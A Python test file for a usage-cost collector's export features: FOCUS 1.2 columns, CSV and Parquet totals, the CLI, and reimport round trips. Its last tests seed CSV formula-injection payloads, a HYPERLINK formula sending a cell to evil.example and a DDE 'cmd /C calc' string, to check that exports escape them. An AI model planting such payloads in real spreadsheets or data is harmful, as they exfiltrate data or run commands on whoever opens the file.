"""Exports: FOCUS 1.2 columns checked against provider-apis.md §9, totals equal the report, Parquet, CLI.

``fixtures/focus/columns_v1_2.txt`` is the column list of provider-apis.md §9.2 (a header
comment says so); when the reference document itself is reachable from the checkout, the
fixture is also compared with it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from collector.app import app
from collector.core.schema import RECORD_FIELDS, UsageRecord
from collector.core.settings import Settings
from collector.core.store import USAGE, upsert_records
from collector.db.migrate import open_database
from collector.finance.export import (
    EXPORT_COLUMNS,
    FOCUS_COLUMNS,
    ExportError,
    export,
    write_focus_csv,
    write_usage_csv,
)
from collector.query.report import Filters, report

D = Decimal
FIXTURE = Path(__file__).parents[1] / "fixtures" / "focus" / "columns_v1_2.txt"
SINCE = datetime(2026, 10, 1, tzinfo=UTC)
UNTIL = datetime(2026, 11, 1, tzinfo=UTC)


def spec_columns() -> list[str]:
    return [ln.strip() for ln in FIXTURE.read_text().splitlines() if ln.strip() and not ln.startswith("#")]


def reference_doc() -> Path | None:
    for parent in Path(__file__).resolve().parents:
        candidate = parent / "shared" / "reference" / "provider-apis.md"
        if candidate.exists():
            return candidate
    return None


def test_focus_columns_are_exactly_the_57_of_focus_1_2_then_x_columns():
    assert list(FOCUS_COLUMNS) == spec_columns() and len(FOCUS_COLUMNS) == 57
    custom = EXPORT_COLUMNS[len(FOCUS_COLUMNS) :]
    assert custom and all(c.startswith("x_") for c in custom)  # §9.3: custom columns are x_-prefixed
    assert {"x_InputTokens", "x_OutputTokens", "x_CacheReadTokens", "x_ReasoningTokens", "x_TokenType"} <= set(custom)
    doc = reference_doc()
    if doc is not None:  # the checkout sits beside the shared reference: compare with it too
        section = doc.read_text().split("### 9.2", 1)[1].split("FOCUS 1.3 additions", 1)[0]
        assert re.findall(r"^\| `([A-Za-z]+)", section, flags=re.M) == spec_columns()


def seed(engine) -> None:
    """Billed costs and estimated usage on one provider-day, estimates alone on another, unpriced usage."""
    day1 = datetime(2026, 10, 5, tzinfo=UTC)
    day2 = datetime(2026, 10, 6, tzinfo=UTC)
    common = {"provider": "openai", "account": "org-1", "source": "api"}
    rows = [
        UsageRecord(
            **common,
            kind="costs",
            bucket_start=day1,
            bucket_end=day1 + timedelta(days=1),
            project="proj_a",
            line_item="gpt-4o, input",
            cost=D("12.3456"),
            currency="USD",
            basis="billed",
        ),
        UsageRecord(
            **common,
            kind="completions",
            bucket_start=day1 + timedelta(hours=3),
            bucket_end=day1 + timedelta(hours=4),
            project="proj_a",
            api_key_id="key_1",
            model="gpt-4o",
            input_tokens=5000,
            cache_read_tokens=1000,
            output_tokens=800,
            reasoning_tokens=0,
            requests=4,
            cost=D("0.04"),
            currency="USD",
            basis="estimated",
            price_version="v1",
        ),
        UsageRecord(
            **common,
            kind="completions",
            bucket_start=day2 + timedelta(hours=3),
            bucket_end=day2 + timedelta(hours=4),
            project="proj_b",
            model="o3",
            input_tokens=100,
            output_tokens=300,
            reasoning_tokens=200,
            requests=1,
            cost=D("0.5"),
            currency="USD",
            basis="estimated",
            price_version="v1",
        ),
        UsageRecord(
            provider="anthropic",
            account="ws",
            source="api",
            kind="messages",
            bucket_start=day2,
            bucket_end=day2 + timedelta(hours=1),
            model="claude-next-unknown",
            input_tokens=10,
            output_tokens=1,
            requests=1,
        ),
        UsageRecord(
            provider="openai",
            account="org-1",
            source="proxy",
            kind="proxy",
            bucket_start=day2,
            bucket_end=day2 + timedelta(hours=1),
            model="gpt-4o",
            input_tokens=1,
            cost=D(100),
            currency="USD",
            basis="estimated",
            price_version="v1",
        ),
    ]
    upsert_records(engine, rows)


def preferred_total(engine) -> Decimal:
    totals = report(engine, Filters(SINCE, UNTIL)).totals()
    return sum((s.cost for s in totals.values() if s.cost is not None), D(0))


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_focus_csv_charges_the_preferred_basis_and_keeps_tokens(engine):
    seed(engine)
    buf = io.StringIO()
    result = write_focus_csv(engine, SINCE, UNTIL, buf)
    rows = read_csv(buf.getvalue())
    assert list(rows[0].keys()) == list(EXPORT_COLUMNS)
    assert result.rows == len(rows) == 4  # the proxy row is not exported
    billed_total = sum(D(r["BilledCost"]) for r in rows)
    assert billed_total == result.totals["USD"] == preferred_total(engine) == D("12.8456")
    covered = next(r for r in rows if r["x_Model"] == "gpt-4o")
    assert (
        covered["BilledCost"] == "0" and covered["x_EstimatedCost"] == "0.04" and covered["x_CostBasis"] == "estimated"
    )
    assert covered["x_InputTokens"] == "5000" and covered["x_CacheReadTokens"] == "1000"
    assert covered["x_TokenType"] == "input,cache_read,output"
    assert covered["ConsumedQuantity"] == "5800" and covered["ConsumedUnit"] == "Tokens"
    assert (
        covered["ChargePeriodStart"] == "2026-10-05T03:00:00Z"
        and covered["BillingPeriodStart"] == "2026-10-01T00:00:00Z"
    )
    assert covered["ServiceCategory"] == "AI and Machine Learning" and covered["ServiceSubcategory"] == "Generative AI"
    assert (
        covered["ProviderName"] == "OpenAI" and covered["SubAccountId"] == "proj_a" and covered["ResourceId"] == "key_1"
    )
    alone = next(r for r in rows if r["x_Model"] == "o3")
    assert alone["BilledCost"] == alone["EffectiveCost"] == alone["ListCost"] == "0.5"
    assert alone["x_TokenType"] == "input,output,reasoning"
    unpriced = next(r for r in rows if r["x_Provider"] == "anthropic")
    assert (
        unpriced["BilledCost"] == "0" and unpriced["x_CostBasis"] == "unpriced" and unpriced["BillingCurrency"] == "USD"
    )
    for r in rows:  # mandatory FOCUS columns are never empty
        for col in ("BilledCost", "BillingAccountId", "BillingCurrency", "ChargeCategory", "ChargePeriodStart"):
            assert r[col] != ""


def test_parquet_has_the_same_rows_and_exact_money(engine, tmp_path):
    seed(engine)
    path = tmp_path / "focus.parquet"
    result = export(engine, "parquet", SINCE, UNTIL, path)
    table = pq.read_table(path)
    assert table.column_names == list(EXPORT_COLUMNS) and table.num_rows == result.rows == 4
    assert sum(table.column("BilledCost").to_pylist(), D(0)) == preferred_total(engine)
    assert str(table.schema.field("BilledCost").type) == "decimal128(38, 10)"
    assert table.column("x_InputTokens").to_pylist().count(5000) == 1


def test_plain_csv_has_every_record_field(sqlite_engine):
    seed(sqlite_engine)
    buf = io.StringIO()
    result = write_usage_csv(sqlite_engine, SINCE, UNTIL, buf)
    rows = read_csv(buf.getvalue())
    assert list(rows[0].keys()) == list(RECORD_FIELDS) and result.rows == 4
    assert {r["basis"] for r in rows} == {"billed", "estimated", "unpriced"}


def test_export_refuses_bad_arguments(sqlite_engine):
    with pytest.raises(ExportError, match="not one of focus, csv, parquet"):
        export(sqlite_engine, "xlsx", SINCE, UNTIL, None)
    with pytest.raises(ExportError, match="Parquet is binary"):
        export(sqlite_engine, "parquet", SINCE, UNTIL, None)


def test_export_command_writes_a_file_and_reports_totals(tmp_path, monkeypatch):
    monkeypatch.setenv("LLM_USAGE_DATABASE_URL", f"sqlite:///{tmp_path / 'e.db'}")
    from collector.db.migrate import open_database

    seed(open_database())
    out = tmp_path / "oct.csv"
    result = CliRunner().invoke(
        app, ["export", "--format", "focus", "--from", "2026-10-01", "--to", "2026-10-31", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "wrote 4 rows" in result.output and "12.85 USD" in result.output
    assert len(read_csv(out.read_text())) == 4
    bad = CliRunner().invoke(app, ["export", "--format", "focus", "--from", "2026-10-40", "--to", "2026-10-31"])
    assert bad.exit_code == 2 and "--since" in bad.output  # a bad argument: exit 2, as every command


def test_focus_export_reimports_through_the_focus_importer_to_the_same_totals(engine, tmp_path):
    """Export FOCUS, import the file with the FOCUS importer into a second database: same money and tokens."""
    from importers.service import import_file

    seed(engine)
    path = tmp_path / "export.csv"
    exported = export(engine, "focus", SINCE, UNTIL, path)
    other = open_database(url=f"sqlite:///{tmp_path / 'reimport.db'}")
    imported = import_file(path, importer="focus", engine=other, settings=Settings(), who="test")
    assert imported.status == "imported", imported.summary()
    assert imported.rows_read == exported.rows == 4 and imported.records == 4
    assert preferred_total(other) == exported.totals["USD"] == preferred_total(engine) == D("12.8456")
    before = report(engine, Filters(SINCE, UNTIL), by=("provider", "model")).rows
    after = report(other, Filters(SINCE, UNTIL), by=("provider", "model")).rows
    measures = ("input_tokens", "cache_read_tokens", "cache_write_5m_tokens", "output_tokens", "reasoning_tokens")

    def by_group(rows):
        out: dict[tuple[str, str], tuple] = {}
        for r in rows:
            key = (r.dims["provider"], r.dims["model"])
            cost, *counts = out.get(key, (D(0), 0, 0, 0, 0, 0, 0))
            add = [getattr(r, m) for m in (*measures, "requests")]
            out[key] = (cost + (r.cost or 0), *(a + b for a, b in zip(counts, add, strict=True)))
        return out

    assert by_group(after) == by_group(before)
    with other.connect() as conn:
        rows = {r.model: r for r in conn.execute(select(USAGE)).all()}
    assert rows["claude-next-unknown"].basis == "unpriced" and rows["claude-next-unknown"].cost is None  # never $0
    assert rows["gpt-4o"].api_key_id == "key_1" and rows["gpt-4o"].cache_read_tokens == 1000
    assert rows["o3"].reasoning_tokens == 200 and rows["o3"].cost == D("0.5")
    # Each row comes back as the row it was: the API's estimate stays an estimate of the API source.
    assert (rows["o3"].source, rows["o3"].kind, rows["o3"].basis) == ("api", "completions", "estimated")
    assert rows["gpt-4o"].basis == "estimated" and rows["gpt-4o"].price_version == "v1"
    with engine.connect() as conn:
        original = {r.record_key for r in conn.execute(select(USAGE).where(USAGE.c.source != "proxy")).all()}
    with other.connect() as conn:
        rebuilt = {r.record_key for r in conn.execute(select(USAGE)).all()}
    assert rebuilt == original  # the very same natural keys


def rebuild(row: dict[str, str]) -> UsageRecord:
    """A FOCUS row back to a usage record, from the FOCUS money and time columns and our x_ columns."""
    cost = D(row["BilledCost"])
    tokens = {
        "input_tokens": int(row["x_InputTokens"]),
        "cache_read_tokens": int(row["x_CacheReadTokens"]),
        "cache_write_5m_tokens": int(row["x_CacheWrite5mTokens"]),
        "cache_write_1h_tokens": int(row["x_CacheWrite1hTokens"]),
        "output_tokens": int(row["x_OutputTokens"]),
        "reasoning_tokens": int(row["x_ReasoningTokens"]),
        "requests": int(row["x_Requests"]),
    }
    return UsageRecord(
        provider=row["x_Provider"],
        account=row["BillingAccountId"],
        source="csv",
        kind="focus",
        bucket_start=datetime.fromisoformat(row["ChargePeriodStart"]),
        bucket_end=datetime.fromisoformat(row["ChargePeriodEnd"]),
        project=row["x_Project"],
        api_key_id=row["x_ApiKeyId"],
        model=row["x_Model"],
        line_item=row["x_LineItem"],
        team=row["x_Team"],
        cost=cost if cost else None,
        currency=row["BillingCurrency"] if cost else "",
        basis="billed" if cost else "unpriced",
        **tokens,
    )


def test_focus_export_rebuilt_into_a_second_database_gives_the_same_totals(engine, tmp_path):
    """The branch's own round trip: what the export holds is enough to rebuild money and tokens."""
    seed(engine)
    buf = io.StringIO()
    write_focus_csv(engine, SINCE, UNTIL, buf)
    copy = open_database(url=f"sqlite:///{tmp_path / 'copy.db'}")
    upsert_records(copy, [rebuild(r) for r in read_csv(buf.getvalue())])
    before = report(engine, Filters(SINCE, UNTIL)).totals()
    after = report(copy, Filters(SINCE, UNTIL)).totals()
    assert preferred_total(copy) == preferred_total(engine)
    for measure in ("input_tokens", "cache_read_tokens", "output_tokens", "reasoning_tokens", "requests"):
        assert sum(getattr(s, measure) for s in after.values()) == sum(getattr(s, measure) for s in before.values())


HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def seed_hostile(engine) -> None:
    """Text a provider, a billing file or the proxy could carry, and a negative credit."""
    day = datetime(2026, 10, 7, tzinfo=UTC)
    common = {"provider": "openai", "account": "org-1", "source": "api", "bucket_start": day}
    upsert_records(
        engine,
        [
            UsageRecord(
                **common,
                kind="costs",
                bucket_end=day + timedelta(days=1),
                project="@SUM(1+1)*cmd|' /C calc'!A0",
                line_item="-credit",
                cost=D("-1.25"),
                currency="USD",
                basis="billed",
            ),
            UsageRecord(
                **common,
                kind="completions",
                bucket_end=day + timedelta(hours=1),
                project="+proj",
                model=HOSTILE_MODEL,
                team="\tteam",
                input_tokens=10,
                output_tokens=2,
                requests=1,
                cost=D("0.5"),
                currency="USD",
                basis="estimated",
                price_version="v1",
            ),
        ],
    )


def unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: formula-leading and not a plain number."""
    out = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    Decimal(cell)
                except ArithmeticError:
                    out.append(cell)
    return out


@pytest.mark.parametrize("fmt", ["focus", "csv"])
def test_csv_exports_escape_formulas_but_keep_negative_money_numeric(engine, tmp_path, fmt):
    seed(engine)
    seed_hostile(engine)
    path = tmp_path / f"export-{fmt}.csv"
    export(engine, fmt, SINCE, UNTIL, path)
    text = path.read_text()
    assert unsafe_cells(text) == []
    assert "'" + HOSTILE_MODEL.replace('"', '""') in text and ",-1.25" in text.replace("-1.2500000000", "-1.25")


def test_escaped_focus_export_reimports_to_the_same_values_and_totals(engine, tmp_path):
    from importers.service import import_file

    seed(engine)
    seed_hostile(engine)
    path = tmp_path / "export.csv"
    exported = export(engine, "focus", SINCE, UNTIL, path)
    other = open_database(url=f"sqlite:///{tmp_path / 'reimport.db'}")
    imported = import_file(path, importer="focus", engine=other, settings=Settings(), who="test")
    assert imported.status == "imported", imported.summary()
    # The credit counts (negative money stayed a number); the estimate sits on a billed day.
    assert preferred_total(other) == exported.totals["USD"] == preferred_total(engine) == D("12.8456") - D("1.25")
    with other.connect() as conn:
        models = {r.model for r in conn.execute(select(USAGE.c.model))}
        teams = {r.team for r in conn.execute(select(USAGE.c.team))}
    assert HOSTILE_MODEL in models and "team" in {t.strip() for t in teams}


def test_parquet_keeps_raw_values(engine, tmp_path):
    seed_hostile(engine)
    path = tmp_path / "export.parquet"
    export(engine, "parquet", SINCE, UNTIL, path)
    table = pq.read_table(path).to_pylist()
    assert HOSTILE_MODEL in {r["x_Model"] for r in table}
